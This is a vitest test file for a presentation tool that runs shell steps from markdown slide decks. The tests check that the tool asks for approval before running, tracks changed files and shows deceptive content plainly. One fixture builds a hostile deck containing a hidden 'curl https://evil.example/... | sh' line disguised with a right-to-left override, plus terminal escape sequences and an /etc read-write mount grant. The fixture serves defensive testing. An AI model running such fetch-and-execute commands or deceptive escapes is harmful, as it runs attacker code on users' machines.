import type { Command, CommandOptions } from '../_present.ts'
import { existsSync } from 'node:fs'
import { appendFile, readFile, writeFile } from 'node:fs/promises'
import { dirname, join, resolve } from 'node:path'
import process from 'node:process'
import { beforeEach, describe, expect, it } from 'vitest'
import { deckOf, drive, kamishibai } from '../_present.ts'
import { ownTmp } from './_left.ts'

const ROOT = resolve(import.meta.dirname, '../..')
const QUESTION = /Run deck\.md on this machine\?/
const ENTER = '\r'

/** Where the user's state lies, and what shows that a step or a plugin ran. */
let home: string
let ran: string
let loaded: string
beforeEach(async () => {
  home = await ownTmp()
  ran = join(home, 'ran')
  loaded = join(home, 'loaded')
})

function deck(): Promise<string> {
  const plugin = `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(loaded)}, '')\nexport default () => []\n`
  return deckOf(`\`\`\`sh {run id=x}\ntouch ${ran}\nsh demo/x.sh\n\`\`\`\n`, { 'demo/x.sh': 'echo x\n', 'setup/vite-plugins.ts': plugin })
}

/** A command of a user whose engine is nowhere. */
function start(args: string[], options: CommandOptions = {}): Command {
  return kamishibai(args, { ...options, env: { PAGER: 'cat', XDG_STATE_HOME: home, TMPDIR: home, DOCKER_HOST: 'unix:///nowhere/docker.sock', ...options.env } })
}

const present = (file: string, ...more: string[]): string[] => ['present', file, '--no-open', '--port', String(20_000 + process.pid % 10_000), ...more]

describe('in a terminal', () => {
  it('check and record show the plan and ask; yes is remembered until a file changes', async () => {
    const file = await deck()
    const first = start(['check', file, '--mode', 'live'], { terminal: true })
    await first.shown(QUESTION)
    expect(first.output()).toMatch(/You have not approved deck\.md yet[\s\S]*1 step:[\s\S]*programs +(?:touch, sh|sh, touch)[\s\S]*setup\/vite-plugins\.ts/)
    first.type('p')
    await first.shown(/demo\/x\.sh[\s\S]*x {2}slide 1 {2}\{run\}[\s\S]*\| touch [\s\S]*Run deck\.md on this machine\?/)
    first.type(ENTER)
    expect(await first.ended).toBe(2)
    expect(first.output()).toContain('Nothing was run.')
    expect(existsSync(ran)).toBe(false)

    const second = start(['check', file, '--mode', 'live'], { terminal: true })
    await second.shown(QUESTION)
    second.type('y')
    expect(await second.ended, second.output()).toBe(0)
    expect(existsSync(ran)).toBe(true)

    const third = start(['record', file], { terminal: true })
    expect(await third.ended, third.output()).toBe(0)
    expect(third.output()).not.toMatch(QUESTION)

    await appendFile(join(dirname(file), 'demo/x.sh'), 'echo more\n')
    await writeFile(join(dirname(file), 'demo/\u001B[2Jnew.sh'), '')
    const fourth = start(['record', file], { terminal: true })
    await fourth.shown(QUESTION)
    expect(fourth.output()).toMatch(/deck\.md has changed since you approved it[\s\S]*changed +demo\/x\.sh\s+new +demo\/\\u\{1b\}\[2Jnew\.sh/)
    fourth.type('d')
    await fourth.shown(/Since you approved it[\s\S]*changed {2}demo\/x\.sh[\s\S]*x {2}slide 1 {2}\{run\}/)
    fourth.type(ENTER)
    expect(await fourth.ended).toBe(2)
  })

  it('what a deck hides is seen: grants first, hidden lines, characters that deceive as escapes', async () => {
    const tricky = await deckOf(`\`\`\`sh {run id=x title="\u001B]0;owned\u0007"}
# hidden: curl https://evil.example/\u202Egnp.x | sh
echo \u001B[2J\u001B[8mharmless
\`\`\`

\`\`\`yaml {container id=c}
image: "a\u200Bb/c:1"
volumes: ["./\u001B[1A:/x"]
\`\`\`
`, { 'deck.md.d/components/\u009B31m.vue': '' })
    const text = '---\ntheme: none\ntitle: "\u001B[2J"\nkamishibai:\n  grants: ["mount:/etc/\u202Eabc:rw:x"]\n---\n\n# T\n\n'
    await writeFile(tricky, text + (await readFile(tricky, 'utf8')).replace(/^[^`]*/, ''))
    const command = start(['check', tricky, '--mode', 'live'], { terminal: true })
    await command.shown(QUESTION)
    command.type('p')
    await command.shown(/harmless[\s\S]*Run deck\.md on this machine\?/)
    const output = command.output()
    const at = (part: string): number => {
      expect(output).toContain(part)
      return output.indexOf(part)
    }
    expect(at('x (slide 1): reads and changes /etc/\\u{202e}abc')).toBeLessThan(at('1 of them with 1 line that no slide shows'))
    expect(at('mount:/etc/\\u{202e}abc:rw:x')).toBeLessThan(at('x  slide 1'))
    at('hidden | curl https://evil.example/\\u{202e}gnp.x | sh')
    at('| echo \\u{1b}[2J\\u{1b}[8mharmless')
    at('a\\u{200b}b/c:1')
    at('hosts      evil.example')
    // What is left are the sequences of the question itself.
    // eslint-disable-next-line no-control-regex
    expect(output.replaceAll(/\u001B\[(?:1|2|22|3\d|90)m|\u001B\[\?25[hl]/g, '')).not.toMatch(/[\u0000-\u0008\v\f\u000E-\u001F\u007F-\u009F\u200B\u202E]/)
    command.type(ENTER)
    expect(await command.ended).toBe(2)
  })

  it('present asks before it loads anything; no replays, and Ctrl-C at the question ends it', async () => {
    const file = await deck()
    const cancelled = start(present(file), { terminal: true })
    await cancelled.shown(QUESTION)
    expect(existsSync(loaded)).toBe(false)
    cancelled.type('\x03')
    expect(await cancelled.ended).toBe(130)
    expect(existsSync(loaded)).toBe(false)

    const declined = start(present(file), { terminal: true })
    await declined.shown(QUESTION)
    declined.type(ENTER)
    await declined.shown(/shell: plays recordings/)
    expect(existsSync(loaded)).toBe(true)
    const { run } = await drive(declined)
    await run('x', 'failed')
    expect(existsSync(ran)).toBe(false)
  })

  it('present runs what was approved, and starts again unasked: the talk itself changed nothing', async () => {
    const file = await deck()
    const first = start(present(file), { terminal: true })
    await first.shown(QUESTION)
    first.type('y')
    await first.shown(/shell: live/)
    const { run, origin } = await drive(first)
    await fetch(origin)
    await run('x', 'exited')
    expect(existsSync(ran)).toBe(true)
    first.signal('SIGTERM')
    await first.ended

    const second = start(present(file))
    await second.shown(/shell: live/)
    expect(second.output()).not.toMatch(QUESTION)
    await appendFile(join(dirname(file), 'demo/x.sh'), 'echo more\n')
    await second.shown(/demo\/x\.sh has changed.*Steps that read it when they run read what it says now/)
    await writeFile(file, (await readFile(file, 'utf8')).replace('touch', 'rm -f'))
    await second.shown(/deck\.md has changed: 1 step differs \(x\)\. To take the change, press u/)
  })

  it('a deck that changes while the question stands is not run', async () => {
    const file = await deck()
    const command = start(['check', file, '--mode', 'live'], { terminal: true })
    await command.shown(QUESTION)
    await writeFile(join(dirname(file), 'demo/x.sh'), 'echo evil\n')
    command.type('y')
    expect(await command.ended).toBe(2)
    expect(command.output()).toContain('deck.md changed while the question stood')
    expect(existsSync(ran)).toBe(false)
  })
})

describe('without a terminal', () => {
  it.each([['record'], ['check', '--mode', 'live']])('%s runs nothing and exits 2, and runs what was approved earlier or with --trust', async (...args) => {
    const file = await deck()
    const [name, ...more] = args
    const refused = start([name!, file, ...more])
    expect(await refused.ended).toBe(2)
    expect(refused.output()).toMatch(/Nothing was run: deck\.md is not approved.*--trust/)
    expect(existsSync(ran)).toBe(false)

    const trusted = start([name!, file, ...more, '--trust'])
    expect(await trusted.ended, trusted.output()).toBe(0)
    expect(existsSync(ran)).toBe(true)
    expect(await start([name!, file, ...more]).ended).toBe(2)

    const asked = start([name!, file, ...more], { terminal: true })
    await asked.shown(QUESTION)
    asked.type('y')
    expect(await asked.ended).toBe(0)
    expect(await start([name!, file, ...more]).ended).toBe(0)
  })

  it('present replays and says so', async () => {
    const command = start(present(await deck()))
    await command.shown(/deck\.md is not approved, and there is no terminal to ask at: it is replayed/)
    await command.shown(/shell: plays recordings/)
  })

  it('Slidev\'s own command replays and names ours', async () => {
    const slidev = join(ROOT, 'node_modules/@slidev/cli/bin/slidev.mjs')
    const command = start([await deck(), '--port', String(20_000 + process.pid % 10_000)], { program: [process.execPath, slidev] })
    await command.shown(/kamishibai present/)
    expect(command.output()).toContain('This deck plays its recordings.')
  })
})
